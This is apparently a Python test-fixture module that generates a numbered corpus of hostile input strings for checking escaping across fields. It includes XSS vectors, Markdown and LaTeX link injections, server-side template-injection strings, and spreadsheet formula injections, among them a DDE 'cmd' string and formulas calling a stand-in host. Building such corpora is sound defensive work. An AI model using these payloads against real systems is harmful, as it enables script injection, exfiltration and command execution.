"""Texts that try to run a script, to ask a foreign host, or to act as a formula, made from families.

Each carries its number: what runs calls `fired(7)`, what asks a host asks `m7.evil.test`. All fit into a
name's 100 characters, so that one and the same text goes through every field.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from enum import Enum
from itertools import zip_longest

FOREIGN = re.compile(r"//m(\d+)\.evil\.test")
LONGEST = 100


class Act(Enum):
    """What a text does in a document that holds it unescaped and has no policy."""

    RUNS = "runs a script by itself"
    ASKS = "asks a foreign host by itself"
    # No policy of today's browsers stops a document from being left: only escaping does.
    LEAVES = "sends the reader elsewhere by itself"
    WAITS = "waits for a click, for another renderer, or for a spreadsheet"


@dataclass(frozen=True, slots=True)
class Payload:
    """One hostile text. `number` is its marker."""

    number: int
    family: str
    act: Act
    text: str


RUNS, ASKS, LEAVES, WAITS = Act

# `#` is the number. The families stand in the order in which a short selection takes one of each.
FAMILIES: dict[str, list[tuple[Act, str]]] = {
    "script tag": [
        (RUNS, "<script>fired(#)</script>"),
        (RUNS, "<ScRiPt>fired(#)</sCrIpT>"),
        (RUNS, "<script/x>fired(#)</script\n>"),
        (RUNS, "<script type=module>fired(#)</script>"),
        (RUNS, "<svg><script>fired(#)</script></svg>"),
        (RUNS, "<script src='data:text/javascript,fired(#)'></script>"),
        (ASKS, "<script src=//m#.evil.test/x.js></script>"),
        (WAITS, "<scr<script>ipt>fired(#)</scr</script>ipt>"),
    ],
    "event handler": [
        (RUNS, "<img src=x onerror=fired(#)>"),
        (RUNS, '<img/src="x"/onerror="fired(#)">'),
        (RUNS, "<IMG SRC=x ONERROR='fired(#)'>"),
        (RUNS, '<img src=x onerror="fired&#40;#&#41;">'),
        (RUNS, "<img src=x onerror=\\u0066ired(#)>"),
        (RUNS, "<img src=x onerror=javascript:fired(#)>"),
        (RUNS, "<input autofocus onfocus=fired(#)>"),
        (RUNS, "<details open ontoggle=fired(#)>x</details>"),
        (RUNS, "<video src=x onerror=fired(#)></video>"),
        (RUNS, "<audio src=x onerror=fired(#)></audio>"),
        (RUNS, "<video><source onerror=fired(#)></video>"),
        (RUNS, "<style onload=fired(#)></style>"),
        (RUNS, "<iframe onload=fired(#)></iframe>"),
        (RUNS, "<object data='data:text/html,' onload=fired(#)></object>"),
        (RUNS, "<link rel=stylesheet href=data:text/css,a onload=fired(#)>"),
        (WAITS, "<b onmouseover=fired(#)>x</b>"),
        (WAITS, "<button onclick=fired(#)>Log in</button>"),
    ],
    "iframe": [
        (RUNS, '<iframe srcdoc="<script>fired(#)</script>"></iframe>'),
        (RUNS, '<iframe srcdoc="<script>parent.fired(#)</script>"></iframe>'),
        (RUNS, "<iframe srcdoc='&lt;script&gt;fired(#)&lt;/script&gt;'></iframe>"),
        (RUNS, "<iframe srcdoc='<img src=x onerror=fired(#)>'></iframe>"),
        (RUNS, "<iframe src='javascript:fired(#)'></iframe>"),
        (RUNS, "<iframe src='data:text/html,<script>fired(#)</script>'></iframe>"),
        (RUNS, "<object data='data:text/html,<script>fired(#)</script>'></object>"),
        (RUNS, "<embed src='data:text/html,<script>fired(#)</script>'>"),
        (ASKS, "<iframe src=//m#.evil.test/></iframe>"),
        (ASKS, "<object data=//m#.evil.test/></object>"),
        (ASKS, "<embed src=//m#.evil.test/>"),
    ],
    "Markdown": [
        (WAITS, "![x](http://m#.evil.test/x.png)"),
        (WAITS, "![x](<http://m#.evil.test/x.png> 'x')"),
        (WAITS, "[![x](http://m#.evil.test/x.png)](http://m#.evil.test/)"),
        (WAITS, "[x](javascript:fired(#))"),
        (WAITS, "[x](data:text/html,<script>fired(#)</script>)"),
        (WAITS, "<http://m#.evil.test/>"),
        (WAITS, "http://m#.evil.test/"),
        (WAITS, "# x\n\n---\n![x](http://m#.evil.test/)"),
        (WAITS, "| ![x](http://m#.evil.test/) |\n|-|"),
        (WAITS, "```\n<script>fired(#)</script>\n```"),
    ],
    "svg": [
        (RUNS, "<svg onload=fired(#)>"),
        (RUNS, "<svg/onload=fired(#)>"),
        (RUNS, "<svg><animate onbegin=fired(#) attributeName=x dur=1s>"),
        (RUNS, "<svg><set onbegin=fired(#) attributeName=x>"),
        (RUNS, "<svg><image href=x onerror=fired(#)>"),
        (ASKS, "<svg><image href=//m#.evil.test/x></svg>"),
        (ASKS, "<svg><feImage href=//m#.evil.test/x /></svg>"),
        (WAITS, "<svg><a href=javascript:fired(#)><text y=9>x</text></a></svg>"),
    ],
    "latex": [
        (WAITS, r"$\href{javascript:fired(#)}{x}$"),
        (WAITS, r"$\url{javascript:fired(#)}$"),
        (WAITS, r"$\includegraphics{http://m#.evil.test/x.png}$"),
        (WAITS, r"$$\htmlStyle{background:url(//m#.evil.test)}{x}$$"),
        (WAITS, r"$\def\x{\x\x}\x m#$"),
        (WAITS, r"$<img src=x onerror=fired(#)>$"),
    ],
    "Streamlit's directives": [
        (WAITS, ":material/home: m#"),
        (WAITS, ":red[![x](http://m#.evil.test/x)]"),
        (WAITS, ":blue-background[<img src=x onerror=fired(#)>]"),
        (WAITS, ":badge[![x](http://m#.evil.test/x)]"),
        (WAITS, ":small[[x](javascript:fired(#))]"),
        (WAITS, ":streamlit: :smile: m#"),
    ],
    "foreign image and style": [
        (ASKS, "<img src=//m#.evil.test/x>"),
        (ASKS, "<img srcset=//m#.evil.test/x>"),
        (ASKS, "<picture><source srcset=//m#.evil.test/x><img></picture>"),
        (ASKS, "<style>@import '//m#.evil.test/';</style>"),
        (ASKS, "<style>@import url(//m#.evil.test/);</style>"),
        (ASKS, "<style>*{background:url(//m#.evil.test/)}</style>"),
        (ASKS, "<p style='background:url(//m#.evil.test/)'>x</p>"),
        (ASKS, "<p style='border-image:url(//m#.evil.test/) 1'>x</p>"),
        (ASKS, "<ul style='list-style:url(//m#.evil.test/)'><li>x</ul>"),
        (ASKS, "<link rel=stylesheet href=//m#.evil.test/>"),
        (ASKS, "<link rel=preload as=image href=//m#.evil.test/>"),
        (ASKS, "<video poster=//m#.evil.test/></video>"),
        (ASKS, "<video src=//m#.evil.test/></video>"),
        (ASKS, "<audio src=//m#.evil.test/ preload=auto></audio>"),
        (ASKS, "<input type=image src=//m#.evil.test/>"),
        (ASKS, "<table background=//m#.evil.test/><td>x</table>"),
        (ASKS, "<base href=//m#.evil.test/><img src=x>"),
    ],
    "leaving": [
        (LEAVES, "<meta http-equiv=refresh content=0;url=//m#.evil.test/>"),
        (LEAVES, "<META HTTP-EQUIV='refresh' CONTENT='0; URL=http://m#.evil.test/'>"),
    ],
    "breaking out": [
        (RUNS, '"><script>fired(#)</script>'),
        (RUNS, "'><img src=x onerror=fired(#)>"),
        (RUNS, "--><script>fired(#)</script><!--"),
        (RUNS, "]]><script>fired(#)</script>"),
        (RUNS, "</title><script>fired(#)</script>"),
        (RUNS, "</textarea><svg onload=fired(#)>"),
        (RUNS, "</style><script>fired(#)</script>"),
        (RUNS, "</script><script>fired(#)</script>"),
        (RUNS, "</bdi></div></td></tr></table><img src=x onerror=fired(#)>"),
        (RUNS, "<!--<img src='--><img src=x onerror=fired(#)>'>"),
        (WAITS, "' onmouseover=fired(#) x='"),
        (WAITS, '" autofocus onfocus=fired(#) x="'),
        (WAITS, '");fired(#)//'),
        (WAITS, "';fired(#)//"),
        (WAITS, "`;fired(#)//"),
        (WAITS, "\\';fired(#)//"),
    ],
    "forms and links": [
        (WAITS, "<a href=javascript:fired(#)>Log in</a>"),
        (WAITS, "<a href='java&#10;script:fired(#)'>Log in</a>"),
        (WAITS, "<a href=//m#.evil.test/ target=_top>Log in</a>"),
        (WAITS, "<form action=//m#.evil.test/><button>Log in</button></form>"),
        (WAITS, "<form action=javascript:fired(#)><button>Log in</button></form>"),
        (WAITS, "<button formaction=//m#.evil.test/>Log in</button>"),
        (WAITS, "<input name=password form=x><form id=x action=//m#.evil.test/>"),
        (WAITS, "<math><a href=javascript:fired(#)>x</a></math>"),
    ],
    "entities": [
        (WAITS, "&lt;script&gt;fired(#)&lt;/script&gt;"),
        (WAITS, "&#60;img src=x onerror=fired(#)&#62;"),
        (WAITS, "&#x3c;script&#x3e;fired(#)&#x3c;/script&#x3e;"),
        (WAITS, "&amp;lt;script&amp;gt;fired(#)&amp;lt;/script&amp;gt;"),
        (WAITS, "&ltscript&gtfired(#)&lt/script&gt"),
        (WAITS, "%3Cscript%3Efired(#)%3C/script%3E"),
        (WAITS, "+ADw-script+AD4-fired(#)+ADw-/script+AD4-"),
        (WAITS, "\\x3cscript\\x3efired(#)\\x3c/script\\x3e"),
    ],
    "templates": [
        (WAITS, "{{constructor.constructor('fired(#)')()}}"),
        (WAITS, "{{7*7}} m#"),
        (WAITS, "{% for x in ().__class__.__base__.__subclasses__() %}m#{% endfor %}"),
        (WAITS, "{0.__class__.__init__.__globals__} m#"),
        (WAITS, "{user} {} {0} m#"),
        (WAITS, "${fired(#)}"),
        (WAITS, "$business ${support} m#"),
        (WAITS, "%(user)s %s %n m#"),
        (WAITS, "<%= fired(#) %>"),
        (WAITS, "#{fired(#)}"),
    ],
    "addresses": [
        (WAITS, "javascript:fired(#)"),
        (WAITS, "jAvAsCrIpT:fired(#)//"),
        (WAITS, "java\tscript:fired(#)"),
        (WAITS, " javascript:fired(#)"),
        (WAITS, "data:text/html,<script>fired(#)</script>"),
        (WAITS, "data:image/svg+xml,<svg onload=fired(#)>"),
        (WAITS, "vbscript:fired(#)"),
        (WAITS, "//m#.evil.test/"),
        (WAITS, "\\\\m#.evil.test\\x"),
        (WAITS, "http://m#.evil.test@localhost/"),
    ],
    "letters": [
        (WAITS, "＜script＞fired(#)＜/script＞"),
        (WAITS, "\u202e<b>fired(#)</b>"),
        (RUNS, "\u200d<img src=x onerror=fired(#)>\u200d"),
        (RUNS, "<img src=x onerror=ᶠ=0,fired(#)>"),
        (RUNS, "\ufeff<svg onload=fired(#)>"),
        (RUNS, "é" * 40 + "<svg onload=fired(#)>"),
        (RUNS, "\U0001f4b8<svg\x0conload=fired(#)>"),
    ],
    "formula": [
        (WAITS, '=HYPERLINK("http://m#.evil.test/","x")'),
        (WAITS, '=IMPORTXML("http://m#.evil.test/","//a")'),
        (WAITS, "+1+cmd|' /C calc'!A# m#"),
        (WAITS, "-2+3+cmd|' /C calc'!A# m#"),
        (WAITS, "@SUM(1+1)*m#"),
        (WAITS, "\t=1+1 m#"),
        (WAITS, "\r=1+1 m#"),
        (WAITS, "\n=1+1 m#"),
        (WAITS, "＝1+1 m#"),
        (WAITS, "＋1 m#"),
        (WAITS, '"=1+1 m#'),
        (WAITS, "' =1+1 m#"),
        (WAITS, " =1+1 m#"),
    ],
}

# What stands before an unescaped value may have to be closed first.
_CLOSERS = ('">', "'>", "</p>", "</textarea>", "x --> ")


def corpus(count: int) -> list[Payload]:
    """So many different texts, the first of every family before the second of any."""
    columns = [[(family, act, text) for act, text in made] for family, made in FAMILIES.items()]
    plain = [entry for row in zip_longest(*columns) for entry in row if entry is not None]
    closed = [
        (family, act, closer + text)
        for closer in _CLOSERS
        for family, act, text in plain
        if act in (Act.RUNS, Act.ASKS) and family not in ("breaking out", "letters") and closer not in text
    ]
    shapes = [*plain, *closed]
    if count > len(shapes):
        raise ValueError(f"there are {len(shapes)} texts")
    return [
        Payload(number, family, act, _numbered(text, number))
        for number, (family, act, text) in enumerate(shapes[:count], start=1)
    ]


def _numbered(text: str, number: int) -> str:
    # A character's code such as &#60;, a heading's mark and a template's keep their sign.
    return re.sub(r"(?<!&)#(?!\{fired| x)", str(number), text)
